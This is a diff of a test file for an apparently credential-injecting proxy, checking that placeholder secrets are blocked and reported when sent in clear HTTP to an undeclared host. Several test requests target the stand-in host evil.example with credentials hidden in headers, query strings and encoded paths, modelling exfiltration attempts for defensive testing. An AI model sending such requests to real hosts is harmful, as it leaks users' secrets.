@@ -1,5 +1,7 @@
 """A placeholder sent to a host that nobody declared: no secret goes there, and what can be seen is reported."""
 
+import base64
+
 import pytest
 
 from canary import sings
@@ -25,17 +27,35 @@ def test_a_tunnel_shows_the_strangers_own_certificate(stage: Stage, protocol: st
     assert "authsome" not in repr(certificate["issuer"])
 
 
+@pytest.mark.parametrize(
+    ("path", "field"),
+    [
+        ("", b": ".join(HELD[0])),
+        ("", b"X-Other: authsome-proxy-managed-team"),
+        ("", b"Authorization: Basic " + base64.b64encode(b"me:authsome-proxy-managed")),
+        ("?key=authsome-proxy-managed", b"X-A: b"),
+        ("authsome%2Dproxy%2Dmanaged", b"X-A: b"),
+    ],
+)
+def test_in_the_clear_the_placeholder_does_not_leave(stage: Stage, path: str, field: bytes) -> None:
+    url = f"http://evil.example:{stage.origin.port}/{path}"
+    password = b"Proxy-Authorization: Basic " + stage.client.password
+    answer = stage.client.ask_proxy(f"GET {url} HTTP/1.1\r\nHost: evil.example".encode(), password, field)
+    assert (answer.status, answer.error) == (403, "placeholder_misplaced")
+    assert stage.origin.arrived == []
+
+
 def test_in_the_clear_no_secret_arrives(stage: Stage) -> None:
     url = f"http://evil.example:{stage.origin.port}/"
     password = b"Proxy-Authorization: Basic " + stage.client.password
-    answer = stage.client.ask_proxy(f"GET {url} HTTP/1.1\r\nHost: evil.example".encode(), password, b": ".join(HELD[0]))
+    head = f"GET {url} HTTP/1.1\r\nHost: evil.example".encode()
+    answer = stage.client.ask_proxy(head, password, b"Authorization: Bearer mine")
     assert answer.status == 200
     assert len(stage.origin.arrived) == 1
     assert not sings(stage.origin.octets())
 
 
 @pytest.mark.world
-@pytest.mark.xfail(strict=True, reason="a placeholder that leaves for an undeclared host in the clear is not reported")
 def test_in_the_clear_the_placeholder_is_reported(setup: Setup) -> None:
     setup.connect("openai")
     ran = setup.curl("--header", "Authorization: Bearer authsome-proxy-managed", "http://undeclared.example/echo")
